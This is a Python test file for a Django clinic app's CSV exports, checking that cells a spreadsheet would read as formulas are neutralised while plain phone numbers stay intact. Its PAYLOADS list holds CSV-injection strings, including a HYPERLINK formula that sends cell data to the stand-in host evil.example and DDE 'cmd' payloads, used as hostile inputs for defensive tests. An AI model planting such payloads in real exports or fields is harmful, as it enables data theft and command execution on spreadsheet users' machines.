"""Every CSV export neutralises cells a spreadsheet would read as a formula (issue 9 #7)."""

import csv
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from accounts.models import Role
from pumptrack.csvexport import E164, FORMULA_STARTS, safe_cell
from tests.factories import PatientFactory, PumpFactory, staff

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
]


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell starts a formula; a plain E.164 phone number (a dialable recall list) is
    the one cell allowed to start with "+", and only when it is nothing else."""
    for row in rows:
        for cell in row:
            if E164.fullmatch(cell):
                continue
            assert not cell.lstrip(" ").startswith(FORMULA_STARTS), (cell, row)


PHONE = st.from_regex(r"\A\+[0-9]{6,15}\Z")
NEAR_PHONE = st.one_of(
    # A number with anything before or after it, or too short or too long (a few of
    # these are still exact numbers, e.g. a digit appended: the test filters them).
    st.tuples(PHONE, st.text(min_size=1)).map("".join),
    st.tuples(st.sampled_from(["", " ", "\t", "=", "-", "@"]), PHONE).map(
        lambda parts: parts[0] + parts[1] if parts[0] else " " + parts[1]
    ),
    st.from_regex(r"\A\+[0-9]{1,5}\Z"),
    st.from_regex(r"\A\+[0-9]{16,20}\Z"),
    st.from_regex(r"\A\+[0-9]{6,15}[\n\r]\Z"),
    st.from_regex(r"\A＋[0-9]{6,15}\Z"),
)


@given(st.one_of(st.text(), PHONE, NEAR_PHONE))
def test_no_text_cell_can_start_a_formula_and_nothing_is_lost(text):
    """Every cell that starts with = + - @ TAB CR (after spaces) is neutralised, unless it
    is exactly a plain E.164 number, which is kept as it is."""
    cell = safe_cell(text)
    if E164.fullmatch(text):
        assert cell == text
    else:
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@given(PHONE)
def test_a_plain_e164_number_stays_dialable(number):
    assert safe_cell(number) == number


@given(NEAR_PHONE.filter(lambda text: not E164.fullmatch(text)))
def test_anything_but_exactly_a_number_is_still_neutralised(text):
    cell = safe_cell(text)
    if text.lstrip(" ").startswith(FORMULA_STARTS):
        assert cell == "'" + text
    assert not cell.lstrip(" ").startswith(FORMULA_STARTS)


@pytest.mark.parametrize("number", [-2, Decimal("-2.5"), -0.5, 0, 17])
def test_numbers_stay_numbers(number):
    assert safe_cell(number) == number
    # ...but the same value as text is neutralised like any other text (OWASP).
    if str(number).startswith("-"):
        assert safe_cell(str(number)) == "'" + str(number)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_audit_export_neutralises_a_hostile_username_and_patient(
    client, as_user, clinic, nurse, payload
):
    hostile = staff(clinic, Role.NURSE, username=payload)
    patient = PatientFactory(clinic=clinic, given_name=payload, family_name=payload)
    PumpFactory(patient=patient)
    patient.history.update(history_user=hostile)
    as_user(staff(clinic, Role.AUDITOR))

    response = client.get(reverse("reports:audit"), {"since": "2000-01-01", "format": "csv"})

    rows = rows_of(response)
    assert_no_formula(rows)
    header = rows[0]
    kind, user, who = header.index("record type"), header.index("user"), header.index("patient")
    patient_rows = [r for r in rows[1:] if r[kind] == "Patient"]
    assert patient_rows and {r[user] for r in patient_rows} == {"'" + payload}
    assert {r[who] for r in patient_rows} == {f"'{payload}, {payload} (MRN {patient.mrn})"}


def test_activity_export_has_no_formula_cells(client, as_user, filled_pump, clinic):
    patient = filled_pump.patient
    patient.given_name = PAYLOADS[0]
    patient.save()
    as_user(staff(clinic, Role.MANAGER))
    rows = rows_of(client.get(reverse("reports:activity_csv")))
    assert len(rows) == 13
    assert_no_formula(rows)
